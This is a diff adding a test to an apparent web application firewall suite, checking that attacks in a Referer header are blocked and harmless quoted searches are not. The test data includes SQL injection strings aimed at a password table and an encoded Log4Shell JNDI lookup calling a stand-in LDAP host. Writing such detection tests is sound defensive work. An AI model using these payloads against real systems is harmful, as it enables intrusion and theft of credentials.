@@ -129,6 +129,16 @@ test('a payload split over parameters is found in the whole query string; quoted
   }
 });
 
+test('a Referer URL is inspected like a query: attacks in its parameters or path are found, a quoted search is not SQL', async () => {
+  const referer = async (value: string) => (await send('/', { headers: { referer: value } })).status;
+  assert.equal(await referer('https://shop.example.com/search?q=%22select%22+from+menu&page=2'), 200);
+  assert.equal(await referer('https://shop.example.com/search?q=%27print%27'), 200);
+  assert.equal(await referer("http://x.example/?a=1'+union+select+password+from+users--"), 403);
+  assert.equal(await referer('http://x.example/?a=%24%7Bjndi%3Aldap%3A%2F%2Fe.example%2Fa%7D'), 403);
+  assert.equal(await referer("http://x.example/'+union+select+password+from+users--"), 403);
+  assert.equal(await referer("' or 1=1--"), 403);
+});
+
 test('every text type is inspected as text, JSON by its other names as JSON, NDJSON line by line; binary types stay 415', async () => {
   const csv = 'id,name,note\n1,"Kim, Ji-woo","said ""hi"""\n2,O\'Brien,=SUM(A1:A2)\n';
   assert.equal((await send('/import', { method: 'POST', body: csv, headers: { 'content-type': 'text/csv' } })).status, 200);
